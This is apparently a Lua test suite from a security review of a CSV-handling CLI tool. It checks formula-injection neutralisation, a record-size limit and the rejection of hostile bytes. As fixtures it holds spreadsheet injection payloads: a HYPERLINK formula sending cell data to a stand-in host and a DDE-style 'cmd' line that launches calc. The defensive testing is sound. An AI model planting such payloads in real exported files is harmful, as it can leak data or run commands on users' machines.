-- Security review, issue 20: CSV formula injection (finding 9), the CSV
-- reader's time and size (finding 10), and hostile bytes in an input (NUL,
-- invalid UTF-8, control characters): the library's CSV module, then the
-- real bin/hscode against the emulator.
local cli = require "avalara.cli"
local csv = require "avalara.csv"
local H = require "spec.support.cli"

-- A reader over `text`, handed out in chunks of 64 KiB (as input.lua reads a file).
local function chunked(text, opts)
  local pos = 1
  return csv.reader(function()
    if pos > #text then return nil end
    local c = text:sub(pos, pos + 65535)
    pos = pos + 65536
    return c
  end, opts)
end

-- The fields of a record, without its `line`.
-- A failure's shape: nil, err (kind input, code, row the line, message).
local function failure(r, err)
  assert.is_nil(r)
  return { err.kind, err.code, err.row, err.message }
end

local function fields(record)
  local out = {}
  for i, v in ipairs(record) do out[i] = v end
  return out
end

-- Whether a cell would start a formula in a spreadsheet.
local function formula(cell)
  return cell:find("^[=+%-@\t\r]") ~= nil
end

describe("CSV formulas (issue 20, finding 9)", function()
  it("neutralises cells that start with =, +, -, @, tab or CR, numbers included, and reads them back", function()
    local record = { '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1",
      "-5", -5, "\tx", "\rx", "'=already", "''-twice", "'plain", "a=b", "x-", "", 1.5 }
    local text = cli.csv_format { record }
    assert.equal([["'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'@SUM(1+1)*cmd|' /C calc'!A0,]]
      .. "'+1,'-5,'-5,'\tx,\"'\rx\",''=already,'''-twice,'plain,a=b,x-,,1.5\r\n", text)
    for _, cell in ipairs(assert(csv.parse(text, { formulas = true }))[1]) do
      assert.is_false(formula(cell), cell)
    end
    local back = assert(cli.csv_parse(text))[1]
    record[5], record[14] = "-5", "1.5"
    assert.same(record, fields(back))
  end)

  it("writes and reads cells as they are with {formulas = true}", function()
    local text = cli.csv_format({ { "=1+2", "-5", "'=x" } }, { formulas = true })
    assert.equal("=1+2,-5,'=x\r\n", text)
    assert.same({ "=1+2", "-5", "'=x" }, fields(assert(csv.parse(text, { formulas = true }))[1]))
  end)
end)

describe("the CSV reader's time and size (issue 20, finding 10)", function()
  -- CPU seconds to read the one record `text` makes (os.clock: this process's own work).
  local function cpu_to_read(text, max)
    local t = os.clock()
    local record = assert(chunked(text, { max_record = max })())
    return os.clock() - t, record
  end

  -- Linear, not quadratic, told by ratios measured in the same run (no timing threshold, which
  -- a loaded machine or a sanitizer build would break): 8 times the size takes about 8 times
  -- the time when linear, 64 times when quadratic; 4 times: 4 against 16.
  it("reads one 16 MiB record in time linear in its size", function()
    -- before: 25 s of CPU (each 64 KiB chunk copied the buffer and rescanned the record)
    local small = cpu_to_read(string.rep("A", 2 * 1024 * 1024), 32 * 1024 * 1024)
    local took, record = cpu_to_read(string.rep("A", 16 * 1024 * 1024), 32 * 1024 * 1024)
    assert.equal(16 * 1024 * 1024, #record[1])
    assert.is_true(took < small * 24, string.format("2 MiB %.3f s, 16 MiB %.3f s", small, took))
    -- a quoted field with doubled quotes, and many short fields, likewise
    small = cpu_to_read('"' .. string.rep('ab""', 256 * 1024) .. '"\n', 8 * 1024 * 1024)
    took, record = cpu_to_read('"' .. string.rep('ab""', 1024 * 1024) .. '"\n', 8 * 1024 * 1024)
    assert.equal(3 * 1024 * 1024, #record[1])
    assert.is_true(took < small * 10, string.format("1 MiB %.3f s, 4 MiB %.3f s", small, took))
    small = cpu_to_read(string.rep("a,", 128 * 1024) .. "\n", 8 * 1024 * 1024)
    took, record = cpu_to_read(string.rep("a,", 512 * 1024) .. "\n", 8 * 1024 * 1024)
    assert.equal(512 * 1024 + 1, #record)
    assert.is_true(took < small * 10, string.format("256 KiB %.3f s, 1 MiB %.3f s", small, took))
  end)

  it("caps a record at 1 MiB by default (its line end included), naming the line where it starts", function()
    local max = csv.MAX_RECORD
    assert.equal(1024 * 1024, max)
    local exact = string.rep("x", max - 2) .. "\r\n"
    local next_record = chunked("a,b\n" .. exact .. '"two\nlines",' .. string.rep("y", max) .. "\nnever,read\n")
    assert.same({ "a", "b" }, fields(assert(next_record())))
    assert.equal(max - 2, #assert(next_record())[1])
    assert.same({ "input", "too_long", 3, "line 3: a record is longer than 1048576 bytes" }, failure(next_record()))
    assert.is_nil(next_record())
    -- a record that ends within the text read, and a limit of the caller's
    assert.same({ "input", "too_long", 1, "line 1: a record is longer than 10 bytes" },
      failure(csv.parse("0123456789,\nx\n", { max_record = 10 })))
    assert.same({ { "012345678" } }, { fields(assert(csv.parse("012345678\n", { max_record = 10 }))[1]) })
    assert.has_error(function() csv.reader(function() end, { max_record = 0 }) end,
      "csv.reader: max_record must be a positive number")
  end)
end)

describe("hscode batch with hostile input (issue 20)", function()
  local e, cache, dir, env

  local function hscode(...)
    return H.run({ ... }, env, cache)
  end

  local w = H.world()
  before_each(function() e, cache, dir, env = w.e, w.cache, w.dir, w.env end)

  -- hscode refusing the input: exit 2, one clear message, no trace, nothing sent.
  local function refused(pattern, ...)
    local r = hscode(...)
    assert.equal(2, r.code, r.stderr)
    assert.matches(pattern, r.stderr)
    assert.falsy(r.stderr:find("internal error", 1, true), r.stderr)
    assert.falsy(r.stderr:find("traceback", 1, true), r.stderr)
    assert.equal(0, H.route(e, "classification_create"))
    return r
  end

  local FORMULAS = "itemCode,description,country\n"
    .. '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",cotton t-shirt,US\n'
    .. "@SUM(1+1)*cmd|' /C calc'!A0,+cotton shirt,US\n"
    .. "-5,men's cotton t-shirt,US\n"

  it("--out CSV: no cell starts a formula, and the output read back as input gives the same items", function()
    local input, out = H.write(dir .. "/formulas.csv", FORMULAS), dir .. "/formulas.out.csv"
    local r = hscode("batch", input, "--out", out)
    assert.equal(0, r.code, r.stderr)
    local raw = assert(csv.parse(assert(H.slurp(out)), { formulas = true }))
    assert.equal(4, #raw)
    for _, record in ipairs(raw) do
      for _, cell in ipairs(record) do assert.is_false(formula(cell), cell) end
    end
    local rows = H.read_csv(out)
    assert.same({ '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-5" },
      { rows[1].itemCode, rows[2].itemCode, rows[3].itemCode })
    assert.equal("+cotton shirt", rows[2].description)
    assert.equal("1001--5-US", rows[3].id)
    assert.same({ "CLASSIFIED", "CLASSIFIED", "CLASSIFIED" }, { rows[1].status, rows[2].status, rows[3].status })

    -- our output as the next input: the same item codes, descriptions and ids
    local again = dir .. "/again.csv"
    r = hscode("batch", out, "--out", again)
    assert.equal(0, r.code, r.stderr)
    local rows2 = H.read_csv(again)
    for i = 1, 3 do
      assert.same({ rows[i].itemCode, rows[i].description, rows[i].id },
        { rows2[i].itemCode, rows2[i].description, rows2[i].id })
    end
  end)

  it("--csv-formulas writes the cells as they are", function()
    local input, out = H.write(dir .. "/formulas2.csv", FORMULAS), dir .. "/raw.csv"
    local r = hscode("batch", input, "--out", out, "--csv-formulas")
    assert.equal(0, r.code, r.stderr)
    local raw = assert(csv.parse(assert(H.slurp(out)), { formulas = true }))
    assert.same({ '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-5" },
      { raw[2][1], raw[3][1], raw[4][1] })
    assert.equal("+cotton shirt", raw[3][2])
    r = hscode("batch", "--help")
    assert.matches("%-%-csv%-formulas", r.stdout)
    assert.matches("%-%-max%-record%-size BYTES", r.stdout)
    assert.matches("gets a leading ' so that a spreadsheet does not run it as a\nformula.*%-%-csv%-formulas writes it",
      hscode("--help").stdout)
    assert.matches("%-%-csv%-formulas", hscode("items", "--help").stdout)
  end)

  it("a record over the limit: exit 2 naming the line; --max-record-size raises the limit", function()
    local big = string.rep("x", 2 * 1024 * 1024)
    local input = H.write(dir .. "/big.csv", "itemCode,description,country\nA,shirt,US\nB," .. big .. ",US\n")
    refused("big%.csv: line 3: a record is longer than 1048576 bytes %(raise the limit with %-%-max%-record%-size%)",
      "batch", input)
    -- read whole now: the row is refused for what it is (a description too long)
    refused("big%.csv line 3: 'description' is longer than 255 characters", "batch", input,
      "--max-record-size", "4M")
    local jsonl = H.write(dir .. "/big.jsonl", '{"itemCode":"A","description":"shirt","country":"US"}\n'
      .. '{"itemCode":"B","description":"' .. big .. '","country":"US"}\n')
    refused("big%.jsonl: line 2: a line is longer than 1048576 bytes %(raise the limit with %-%-max%-record%-size%)",
      "batch", jsonl)
    refused("big%.jsonl line 2: 'description' is longer than 255 characters", "batch", jsonl,
      "--max-record-size", "3145728")
    refused("%-%-max%-record%-size must be a size in bytes, such as 1048576, 512K or 16M %(got '1.5M'%)",
      "batch", input, "--max-record-size", "1.5M")
  end)

  it("NUL bytes, invalid UTF-8 and control characters: each row named, exit 2, no trace", function()
    -- NUL bytes in the first 4 KiB: the file is not text (UTF-16?)
    refused("in%.csv has NUL bytes: it is UTF%-16 without a byte order mark, or not text", "batch",
      H.write(dir .. "/in.csv", "itemCode,description,country\nA\0B,cot\255\254ton t-shirt,US\nC,\192\128shirt,U\0S\n"))
    -- further on (past the sniffed head), and in JSON escapes: each row says what is wrong
    local r = refused("3 rows of .*late%.csv are not valid", "batch", H.write(dir .. "/late.csv",
      "itemCode,description,country,notes\nP,cotton shirt,US," .. string.rep("n", 5000)
      .. "\nA\0B,cotton,US,\nC,shirt,U\0S,\nD,tea\27[2J,US,\n"))
    assert.matches("late%.csv line 3: itemCode has a NUL byte", r.stderr)
    assert.matches("late%.csv line 4: country has a NUL byte", r.stderr)
    assert.matches("late%.csv line 5: description has a control character %(byte 0x1B%)", r.stderr)
    assert.falsy(r.stderr:find("\0", 1, true) or r.stderr:find("\27", 1, true), "no raw control byte echoed")
    r = refused("3 rows of .*in%.jsonl are not valid", "batch", H.write(dir .. "/in.jsonl",
      '{"itemCode":"A\\u0000B","description":"cotton","country":"US"}\n'
      .. '{"itemCode":"Z","description":"\\ud800 x","country":"US"}\n'
      .. '{"itemCode":"Y","description":"cot\255ton","country":"US"}\n'))
    assert.matches("in%.jsonl line 1: itemCode has a NUL byte", r.stderr)
    assert.matches("in%.jsonl line 2: not valid JSON", r.stderr)
    assert.matches("in%.jsonl line 3: not valid UTF%-8", r.stderr)
    refused("in%.json: not valid JSON", "batch",
      H.write(dir .. "/in.json", '[{"itemCode":"Z","description":"\\ud800 x","country":"US"}]'))

    -- --skip-invalid: the rows are written INVALID, the others classified
    local out = dir .. "/skip.csv"
    r = hscode("batch", dir .. "/late.csv", "--out", out, "--skip-invalid")
    assert.equal(0, r.code, r.stderr)
    local rows = H.read_csv(out)
    assert.equal(4, #rows)
    assert.same({ "CLASSIFIED", "INVALID", "INVALID", "INVALID" },
      { rows[1].status, rows[2].status, rows[3].status, rows[4].status })
  end)
end)
